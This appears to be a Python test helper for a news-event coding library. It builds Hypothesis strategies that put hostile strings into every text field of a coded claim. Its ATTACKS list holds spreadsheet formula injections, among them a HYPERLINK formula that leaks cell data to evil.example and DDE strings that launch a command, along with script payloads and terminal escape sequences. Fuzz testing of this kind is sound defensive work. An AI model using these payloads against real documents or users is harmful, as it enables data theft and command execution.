"""Codings that mean harm: any words, wherever a text may stand."""

from __future__ import annotations

from dataclasses import replace

from hypothesis import strategies as st

import fakes
from dateline.types import Actor, Claim, Coding, Event, Magnitude, Period, Place, RunnerUp, Span, Status

ATTACKS = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "it was quiet;=1+1",
    'it was quiet; "=1+1"',
    "first line\r\n=1+1,2",
    "'=1+1",
    "<script>alert(1)</script>",
    "&lt;script&gt; ]]> <!-- &amp; --> <?pi?>",
    "\x00\x01\x1b]0;owned\x07\x1b[31m\x7f\x9b\u202e\ufeff",
    "\ud800\udc00 \udfff \ufffe\uffff",
    "NaN, NA, null, \"quoted\", 'single', a,b;c\td\\n",
    "javascript:alert(1)",
    "Žižkov 東京 😀 e\u0301",
)  # fmt: skip
"""What has harmed readers of tables, XML, JSON and terminals."""

WORDS = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(st.characters(exclude_categories=[]), max_size=30),
    st.text(st.sampled_from("=+-@'\" ;,\t\r\na＝<&>"), max_size=12),
)
"""Any text, lone surrogates and control characters too."""


def coding(words: str) -> Coding:
    """A coding of one claim that has `words` in every field that holds text."""
    text = f"{words} struck {words}"
    report = replace(
        fakes.report(text),
        url=words,
        outlet=words,
        title=words,
        byline=words,
        published=words,
        updated=words,
        language="en",
        wire=(words,),
    )
    first, last = Span(0, len(words)), Span(len(text) - len(words), len(text))
    actor = Actor(first, words, "RUR", "GOV", "a1")
    place = Place(
        last, words, 1.5, 179.5, "TOL", "city", 7, 0.9, RunnerUp(words, "TOL", None, 0.1), role="to"
    )
    event = Event(
        "ASSAULT",
        words,
        Span(len(words) + 1, len(words) + 7),
        (actor, replace(actor, name="")),
        (replace(actor, span=last),),
        (place, replace(place, lon=-179.5, role="from")),
        Period(first, words, None, None),
        (Magnitude(first, "money", 1e18, None, words), Magnitude(last, "dead", 3.0, 4.5)),
        (first,),
    )
    claim = Claim(
        f"c;{words}", report.id, "body", Span(0, len(text)), event, Status("denied", None, last), (actor,)
    )
    return Coding(report, (claim,), (), fakes.CODED_BY._replace(model=words))
